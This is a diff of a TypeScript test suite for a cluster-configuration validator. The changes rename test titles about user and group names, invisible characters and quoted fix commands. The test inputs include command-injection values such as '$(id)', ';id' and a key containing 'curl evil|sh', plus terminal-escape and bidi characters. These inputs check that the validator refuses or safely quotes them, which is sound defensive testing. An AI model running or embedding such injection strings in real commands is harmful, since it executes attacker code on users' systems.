@@ -33,7 +33,7 @@ describe("names of users and groups", () => {
     "a  b",
     'o\'neil "x" & <y>',
     "$(id) `x`",
-  ])("can be %j, as OpenShift has them", (name) => {
+  ])("are accepted as OpenShift accepts them: %j", (name) => {
     expect(problemsOf(withKeys(withName(name)))).toEqual([]);
     const { authentication, accessControl } = parseConfiguration(withKeys(withName(name))).platform;
     const [admins, binding] = bindings(authentication).map(
@@ -71,18 +71,18 @@ describe("names of users and groups", () => {
     "an\nna",
     "an\u0000na",
     "x".repeat(501),
-  ])("can't be %j", (name) => {
+  ])("are refused: %j", (name) => {
     expect([...problemsOf(withKeys(withName(name))).map(({ key }) => key)].sort()).toEqual([...KEYS].sort());
   });
 
-  test("of the system can be bound, but not declared", () => {
+  test("of the system are accepted in role bindings, but not as declared groups", () => {
     expect(
       problemsOf(withKeys({ roleBindings: [{ name: "x", role: "view", groups: ["system:authenticated"], users: ["b64:YW5uYQ"] }] })),
     ).toEqual([]);
     expect(problemsOf(withKeys({ groups: [{ name: "system:admins" }] })).map(({ key }) => key)).toEqual(["groups"]);
   });
 
-  test("of LDAP groups can't contain a line break", () => {
+  test("of LDAP groups are refused with a line break", () => {
     const groupSync = { ...LDAP.groupSync, groups: ["a\nb"] };
     expect(problemsOf(withKeys({ identityProviders: [{ ...LDAP, groupSync }] })).map(({ wrong }) => wrong)).toEqual([
       'item 1 (ad): groupSync.groups item 1 ("a\\nb") has an invisible character (U+000A)',
@@ -106,7 +106,7 @@ describe("an invisible character", () => {
     "\u001b",
   ];
 
-  test.each(INVISIBLE)("%j is shown by its code point in a plan", (character) => {
+  test.each(INVISIBLE)("is shown as its code point in a plan: %j", (character) => {
     for (const form of ["markdown", "terminal"] as const) {
       const exposure = (name: string) => ({ kind: "opened" as const, text: `everything to the user ${name}`, wide: true });
       const summary = {
@@ -126,7 +126,7 @@ describe("an invisible character", () => {
     }
   });
 
-  test("is shown by its code point in an error, and quoted in commands", () => {
+  test("is shown as its code point in an error, and quoted in commands", () => {
     const problems = problemsOf({
       ...withKeys({ clusterName: "a\u001b[31m\u202e" }),
       "okd-aws:foo; curl evil|sh": "x",
@@ -149,7 +149,7 @@ describe("an invisible character", () => {
     [{ zones: "us-east-1a,$(id)" }, "pulumi config set --path 'zones[0]' us-east-1a && pulumi config set --path 'zones[1]' '$(id)'"],
     [{ masterRoleName: "arn:aws:iam::123456789012:role/x;id" }, "pulumi config set masterRoleName 'x;id'"],
     [{ updateServer: "http://updates.example.com/$(id)'" }, `pulumi config set updateServer 'https://updates.example.com/$(id)'\\'''`],
-  ])("%j: the fix is one word for each name", (keys, fix) => {
+  ])("in a name is one quoted word of the command in the fix: %j", (keys, fix) => {
     expect(problemsOf(withKeys(keys)).map((problem) => problem.fix)).toContain(fix);
   });
 });
